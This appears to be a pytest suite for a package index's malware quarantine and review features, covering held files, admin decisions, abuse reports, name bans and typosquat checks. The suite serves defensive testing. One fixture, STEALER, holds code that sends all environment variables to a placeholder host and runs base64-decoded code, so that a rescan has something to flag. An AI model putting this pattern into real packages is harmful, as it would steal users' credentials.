"""Quarantine and review on both databases: what a held file or project hides (simple pages, JSON
API, downloads, project pages), the admins' decisions, reports and trusted reporters, name rules,
and that every decision stays on record as a case and an audit event."""

from __future__ import annotations

import time
from datetime import timedelta
from email import message_from_bytes
from pathlib import Path

import pytest
from sqlalchemy import select, update

from bastion.accounts.models import ApiToken, User
from bastion.authz import OPERATOR, Principal
from bastion.db import utcnow
from bastion.errors import Conflict, Forbidden, NotFound, ServiceError
from bastion.events import CLI_CONTEXT, Event
from bastion.packaging.models import DeletedFilename, File, Project
from bastion.scanning import review
from bastion.scanning.models import CaseState, MalwareReport, ReviewCase
from bastion.scanning.service import known_malicious
from bastion.services import Bastion
from tests.conftest import make_user, post_upload
from tests.unit.uploads import FINDING, hold_stored
from tests.distbuilder import make_wheel, upload_form

_hold = hold_stored


def _upload(client, token: str, tmp_path: Path, name: str, version: str):  # type: ignore[no-untyped-def]
    (tmp_path / f"{name}-{version}").mkdir()
    wheel = make_wheel(tmp_path / f"{name}-{version}", name, version)
    response = post_upload(client, token, wheel, upload_form(wheel, name, version))
    assert response.status_code == 200, response.text
    return wheel


def _visible(client, name: str, filename: str) -> dict[str, bool]:  # type: ignore[no-untyped-def]
    simple = client.get(f"/simple/{name}/")
    simple_json = client.get(f"/simple/{name}/", headers={"Accept": "application/vnd.pypi.simple.v1+json"})
    json_api = client.get(f"/pypi/{name}/json")
    index = client.get("/simple/")
    with_path = [f["url"] for f in simple_json.json().get("files", [])] if simple_json.status_code == 200 else []
    return {
        "simple": filename in simple.text,
        "simple_json": any(filename in url for url in with_path),
        "json_api": json_api.status_code == 200 and filename in json_api.text,
        "index": f">{name}<" in index.text,
    }


def _download_status(client, bastion: Bastion, filename: str) -> int:  # type: ignore[no-untyped-def]
    with bastion.db.read() as session:
        path = session.execute(select(File.path).where(File.filename == filename)).scalar_one()
    return client.get(f"/{path}").status_code


def _events(bastion: Bastion, action: str) -> list[Event]:
    with bastion.db.read() as session:
        return list(session.execute(select(Event).where(Event.action == action)).scalars())


def test_held_file_is_invisible_and_release_publishes_it(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "alice")
    _upload(client, token, tmp_path, "heldpkg", "1.0")
    wheel = _upload(client, token, tmp_path, "heldpkg", "2.0")
    with bastion.db.read() as session:
        before = session.execute(select(File.upload_time).where(File.filename == wheel.name)).scalar_one()
    case_id = _hold(bastion, wheel.name)
    assert _visible(client, "heldpkg", wheel.name) == {"simple": False, "simple_json": False, "json_api": False,
                                                       "index": True}
    assert _download_status(client, bastion, wheel.name) == 404
    assert client.get("/pypi/heldpkg/2.0/json").status_code == 404  # the held release's own page is gone
    assert client.get("/pypi/heldpkg/json").json()["info"]["version"] == "1.0"
    page = client.get("/projects/heldpkg/")
    assert page.status_code == 200 and wheel.name not in page.text and "2.0" not in page.text

    with bastion.db.read() as session:
        cases = review.list_cases(session, OPERATOR)
    assert [(c.id, c.kind, c.source, c.hidden, c.score) for c in cases] == [(case_id, "file", "scan", True, 9.0)]
    with bastion.db.read() as session:
        details = review.case_details(session, OPERATOR, case_id)
    assert details.findings == [FINDING] and details.people == [("alice", "owner", True)]

    time.sleep(0.01)
    with bastion.db.write() as session:
        outcome = review.decide_case(session, bastion, case_id, "release", OPERATOR, "false positive: test data")
    review.finish(bastion, outcome)
    assert _visible(client, "heldpkg", wheel.name)["simple"] and _visible(client, "heldpkg", wheel.name)["json_api"]
    assert _download_status(client, bastion, wheel.name) == 200
    assert client.get("/pypi/heldpkg/json").json()["info"]["version"] == "2.0"
    with bastion.db.read() as session:
        after = session.execute(select(File.upload_time).where(File.filename == wheel.name)).scalar_one()
        case = session.get(ReviewCase, case_id)
        assert case is not None
        assert (case.state, case.decided_by, case.decision_note) == ("released", OPERATOR.username,
                                                                     "false positive: test data")
    assert after > before  # published as if just uploaded
    assert [e.details["case_id"] for e in _events(bastion, "review.release")] == [case_id]
    assert len(_events(bastion, "file.quarantined")) == 1


def test_a_case_is_decided_once_and_only_by_an_admin(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "bob")
    wheel = _upload(client, token, tmp_path, "oncepkg", "1.0")
    case_id = _hold(bastion, wheel.name)
    with bastion.db.read() as session:
        user_id = session.execute(select(User.id).where(User.username == "bob")).scalar_one()
    bob = Principal(user_id=user_id, username="bob", is_admin=False, has_2fa=True)
    for action in review.ACTIONS:
        with pytest.raises(Forbidden), bastion.db.write() as session:
            review.decide_case(session, bastion, case_id, action, bob)
    with pytest.raises(Forbidden), bastion.db.read() as session:
        review.list_cases(session, bob)
    with pytest.raises(ServiceError, match="release it or remove it"), bastion.db.write() as session:
        review.decide_case(session, bastion, case_id, "dismiss", OPERATOR)
    with pytest.raises(ServiceError, match="unknown decision"), bastion.db.write() as session:
        review.decide_case(session, bastion, case_id, "approve", OPERATOR)
    with pytest.raises(NotFound), bastion.db.write() as session:
        review.decide_case(session, bastion, case_id + 99, "release", OPERATOR)
    with bastion.db.write() as session:
        review.finish(bastion, review.decide_case(session, bastion, case_id, "release", OPERATOR))
    with pytest.raises(Conflict, match="decided already"), bastion.db.write() as session:
        review.decide_case(session, bastion, case_id, "remove", OPERATOR)
    assert _visible(client, "oncepkg", wheel.name)["simple"]


def test_remove_deletes_the_file_for_good(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "carol")
    _upload(client, token, tmp_path, "rmpkg", "1.0")
    wheel = _upload(client, token, tmp_path, "rmpkg", "1.1")
    case_id = _hold(bastion, wheel.name)
    with bastion.db.read() as session:
        blob = bastion.blobs.local_path(session.execute(select(File.path).where(File.filename == wheel.name))
                                        .scalar_one())
    assert blob is not None and blob.is_file()
    with bastion.db.write() as session:
        outcome = review.decide_case(session, bastion, case_id, "remove", OPERATOR, "malware confirmed")
    review.finish(bastion, outcome)
    assert not blob.exists()
    with bastion.db.read() as session:
        assert session.execute(select(File.id).where(File.filename == wheel.name)).first() is None
        assert session.get(DeletedFilename, wheel.name) is not None
        case = session.get(ReviewCase, case_id)
        assert case is not None and case.state == CaseState.REMOVED and case.file_id is None
        assert case.filename == wheel.name  # the record keeps what it was about
    response = post_upload(client, token, wheel, upload_form(wheel, "rmpkg", "1.1"))
    assert response.status_code == 400 and "already been used" in response.text
    assert client.get("/pypi/rmpkg/json").json()["info"]["version"] == "1.0"
    assert len(_events(bastion, "review.remove")) == 1


def test_remove_project_freezes_its_people(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "mallory")
    wheel = _upload(client, token, tmp_path, "evilpkg", "1.0")
    other = _upload(client, token, tmp_path, "evilpkg", "1.1")
    case_id = _hold(bastion, wheel.name)
    second = _hold(bastion, other.name)
    with bastion.db.write() as session:
        outcome = review.decide_case(session, bastion, case_id, "remove-project", OPERATOR, "credential stealer")
    review.finish(bastion, outcome)
    assert "mallory" in outcome.summary
    assert client.get("/simple/evilpkg/").status_code == 404
    with bastion.db.read() as session:
        user = session.execute(select(User).where(User.username == "mallory")).scalar_one()
        assert not user.is_active
        assert all(t.revoked is not None for t in session.execute(
            select(ApiToken).where(ApiToken.user_id == user.id)).scalars())
        states = dict(session.execute(select(ReviewCase.id, ReviewCase.state)).all())
        assert known_malicious(session) == frozenset({"evilpkg"})
    assert states == {case_id: "project-removed", second: "project-removed"}
    retry = _upload_status(client, token, tmp_path, "evilpkg2", "1.0")
    assert retry == 403
    assert [e.subject for e in _events(bastion, "user.frozen")] == ["user:mallory"]


def _upload_status(client, token: str, tmp_path: Path, name: str, version: str) -> int:  # type: ignore[no-untyped-def]
    (tmp_path / f"s-{name}-{version}").mkdir()
    wheel = make_wheel(tmp_path / f"s-{name}-{version}", name, version)
    return post_upload(client, token, wheel, upload_form(wheel, name, version)).status_code


def _principal(bastion: Bastion, name: str) -> Principal:
    with bastion.db.read() as session:
        user = session.execute(select(User).where(User.username == name)).scalar_one()
        return Principal(user_id=user.id, username=user.username, is_admin=user.is_admin, has_2fa=True)


def _report(bastion: Bastion, name: str, who: str, reason: str = "steals AWS keys in setup.py"):  # type: ignore[no-untyped-def]
    with bastion.db.write() as session:
        result, outcome = review.report_project(session, bastion, name, _principal(bastion, who), reason, CLI_CONTEXT)
    review.finish(bastion, outcome)
    return result


def test_reports_queue_and_trusted_reporters_quarantine(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "owner1")
    wheel = _upload(client, token, tmp_path, "young", "1.0")
    make_user(bastion, "rita")
    make_user(bastion, "tess")
    first = _report(bastion, "young", "rita")
    assert not first.quarantined
    assert _visible(client, "young", wheel.name)["simple"]
    with pytest.raises(Conflict, match="already reported"):
        _report(bastion, "young", "rita")
    with pytest.raises(ServiceError, match="Say why"):
        _report(bastion, "young", "tess", "   ")
    with pytest.raises(ServiceError, match="too long"):
        _report(bastion, "young", "tess", "x" * 2001)
    with pytest.raises(NotFound):
        _report(bastion, "no-such-project", "tess")
    with pytest.raises(Forbidden), bastion.db.write() as session:
        review.report_project(session, bastion, "young", None, "bad", CLI_CONTEXT)
    with bastion.db.write() as session:
        review.set_trusted_reporter(session, bastion, "tess", True, OPERATOR)
    second = _report(bastion, "young", "tess")
    assert second.quarantined and second.case_id == first.case_id

    html = client.get("/simple/young/").text
    assert '<meta name="pypi:project-status" content="quarantined">' in html and wheel.name not in html
    document = client.get("/simple/young/", headers={"Accept": "application/vnd.pypi.simple.v1+json"}).json()
    assert document["project-status"]["status"] == "quarantined" and document["files"] == []
    assert document["meta"]["api-version"] == "1.4"
    assert ">young<" not in client.get("/simple/").text
    assert client.get("/pypi/young/json").status_code == 404
    assert _download_status(client, bastion, wheel.name) == 404
    assert "young" not in client.get("/projects/").text
    assert _upload_status(client, token, tmp_path, "young", "1.1") == 403
    mail = [message_from_bytes(p.read_bytes()) for p in bastion.settings.outbox_dir.glob("*.eml")]
    assert any("held for review" in str(m["Subject"]) and "owner1" in m.get_payload() for m in mail)

    with bastion.db.write() as session:
        review.finish(bastion, review.decide_case(session, bastion, first.case_id, "release", OPERATOR))
    assert _visible(client, "young", wheel.name) == {"simple": True, "simple_json": True, "json_api": True,
                                                     "index": True}
    with bastion.db.read() as session:
        assert session.execute(select(MalwareReport.reporter).order_by(MalwareReport.id)).scalars().all() == [
            "rita", "tess"]


def test_a_trusted_report_on_an_old_project_needs_a_second_reporter(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "owner2")
    wheel = _upload(client, token, tmp_path, "oldpkg", "1.0")
    with bastion.db.write() as session:
        session.execute(update(Project).values(created=utcnow() - timedelta(days=3)))
    make_user(bastion, "trusty")
    make_user(bastion, "plain")
    with bastion.db.write() as session:
        review.set_trusted_reporter(session, bastion, "trusty", True, OPERATOR)
    assert not _report(bastion, "oldpkg", "trusty").quarantined
    assert _visible(client, "oldpkg", wheel.name)["simple"]
    assert _report(bastion, "oldpkg", "plain").quarantined
    assert not _visible(client, "oldpkg", wheel.name)["simple"]
    assert len(_events(bastion, "project.quarantined")) == 1 and len(_events(bastion, "project.reported")) == 2


def test_two_untrusted_reporters_only_queue(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "owner3")
    wheel = _upload(client, token, tmp_path, "queued", "1.0")
    make_user(bastion, "u1")
    make_user(bastion, "u2")
    assert not _report(bastion, "queued", "u1").quarantined
    result = _report(bastion, "queued", "u2")
    assert not result.quarantined and _visible(client, "queued", wheel.name)["simple"]
    with bastion.db.read() as session:
        [case] = review.list_cases(session, OPERATOR)
    assert (case.id, case.reports, case.hidden) == (result.case_id, 2, False)
    with bastion.db.write() as session:
        review.finish(bastion, review.decide_case(session, bastion, case.id, "dismiss", OPERATOR, "not malware"))
    with bastion.db.read() as session:
        assert review.list_cases(session, OPERATOR) == []
        assert [c.state for c in review.list_cases(session, OPERATOR, state="decided")] == ["dismissed"]


def test_name_rules_ban_and_allow(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "namer")
    with bastion.db.write() as session:
        review.set_name_rule(session, bastion, "Forbidden_Thing", "ban", OPERATOR, "trademark")
    wheel = make_wheel(tmp_path, "forbidden-thing", "1.0")
    response = post_upload(client, token, wheel, upload_form(wheel, "forbidden-thing", "1.0"))
    assert response.status_code == 400 and "prohibited" in response.text
    with bastion.db.read() as session:
        assert session.execute(select(Project.id)).first() is None
    with pytest.raises(ServiceError, match="not a valid project name"), bastion.db.write() as session:
        review.set_name_rule(session, bastion, "bad name!", "ban", OPERATOR)
    with pytest.raises(ServiceError, match="unknown rule"), bastion.db.write() as session:
        review.set_name_rule(session, bastion, "x", "maybe", OPERATOR)
    with bastion.db.write() as session:
        review.set_name_rule(session, bastion, "forbidden-thing", None, OPERATOR)
    assert post_upload(client, token, wheel, upload_form(wheel, "forbidden-thing", "1.0")).status_code == 200
    assert [e.subject for e in _events(bastion, "name.ban")] == ["name:forbidden-thing"]


def test_name_policy_review_creates_and_queues(bastion_with, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    instance, client = bastion_with(name_policy="review")
    token = make_user(instance, "dora")
    wheel = make_wheel(tmp_path, "numpyy", "1.0")
    response = post_upload(client, token, wheel, upload_form(wheel, "numpyy", "1.0"))
    assert response.status_code == 200, response.text
    assert wheel.name in client.get("/simple/numpyy/").text  # flagged, not hidden
    with instance.db.read() as session:
        [case] = review.list_cases(session, OPERATOR)
    assert (case.kind, case.source, case.hidden, case.project_name) == ("project", "name", False, "numpyy")
    assert "'numpy'" in case.summary
    assert [e.subject for e in _events(instance, "project.name-flagged")] == ["project:numpyy"]


def test_name_policy_block_refuses_and_stores_nothing(bastion: Bastion, client, tmp_path: Path) -> None:
    token = make_user(bastion, "eve")
    wheel = make_wheel(tmp_path, "numpyy", "1.0")
    response = post_upload(client, token, wheel, upload_form(wheel, "numpyy", "1.0"))
    assert response.status_code == 400
    assert "'numpy'" in response.text and "bastion names allow" in response.text
    with bastion.db.read() as session:
        assert session.execute(select(Project.id)).first() is None
        assert review.list_cases(session, OPERATOR) == []
    assert list(bastion.settings.effective_blob_dir.rglob("*.whl")) == []


def test_rescan_queues_new_hits_and_never_hides(bastion: Bastion, client, tmp_path: Path) -> None:
    from bastion.scanning.models import ScanRecord

    token = make_user(bastion, "fred")
    plain = _upload(client, token, tmp_path, "rescanned", "1.0")
    with bastion.db.read() as session:
        [(verdict, version)] = session.execute(select(ScanRecord.verdict, ScanRecord.rules_version)).all()
    assert verdict == "allow" and version == bastion.scanner.rules_version
    summary = review.rescan(bastion)
    assert (summary.scanned, summary.up_to_date, summary.new_hits) == (0, 1, 0)
    # Pretend the file was scanned with older rules and the current rules would now flag it: swap
    # the stored blob for a malicious-looking one of the same name (the index serves its bytes).
    evil_dir = tmp_path / "evil"
    evil_dir.mkdir()
    evil = make_wheel(evil_dir, "rescanned", "1.0", files={"rescanned/__init__.py": STEALER})
    with bastion.db.write() as session:
        session.execute(update(ScanRecord).values(rules_version="old"))
        path = session.execute(select(File.path).where(File.filename == plain.name)).scalar_one()
    blob = bastion.blobs.local_path(path)
    assert blob is not None
    blob.write_bytes(evil.read_bytes())
    summary = review.rescan(bastion)
    assert (summary.scanned, summary.new_hits) == (1, 1)
    assert _visible(client, "rescanned", plain.name)["simple"]  # queued, never hidden
    with bastion.db.read() as session:
        [case] = review.list_cases(session, OPERATOR)
    assert (case.source, case.hidden, case.filename) == ("rescan", False, plain.name)
    again = review.rescan(bastion, everything=True)
    assert (again.scanned, again.new_hits) == (1, 0)  # the open case is not doubled


STEALER = b"""import base64, json, os, urllib.request
secrets = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://collector.invalid/upload", data=secrets)
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
"""


def test_a_name_imitating_a_project_of_this_index_is_refused(bastion: Bastion, client, tmp_path: Path) -> None:
    _upload(client, make_user(bastion, "gina"), tmp_path, "acme-billing-service", "1.0")
    token = make_user(bastion, "jack")  # not one of its maintainers
    (tmp_path / "squat").mkdir()
    wheel = make_wheel(tmp_path / "squat", "acme-billing-servise", "1.0")
    response = post_upload(client, token, wheel, upload_form(wheel, "acme-billing-servise", "1.0"))
    assert response.status_code == 400
    assert "existing project 'acme-billing-service'" in response.text
    assert _upload_status(client, token, tmp_path, "acme-invoicing", "1.0") == 200


def test_numbered_siblings_and_a_maintainers_own_family_are_not_squats(bastion: Bastion, client,
                                                                        tmp_path: Path) -> None:
    token = make_user(bastion, "hank")
    _upload(client, token, tmp_path, "billing-plugin-1", "1.0")
    assert _upload_status(client, token, tmp_path, "billing-plugin-2", "1.0") == 200  # digits differ
    _upload(client, token, tmp_path, "acme-reports", "1.0")
    assert _upload_status(client, token, tmp_path, "acme-report", "1.0") == 200  # hank owns acme-reports
    other = make_user(bastion, "ivan")
    response_status = _upload_status(client, other, tmp_path, "acme-reporst", "1.0")
    assert response_status == 400  # someone else imitating it is refused
    assert _upload_status(client, other, tmp_path, "billing-plugin-l", "1.0") == 400  # 1/l look-alike
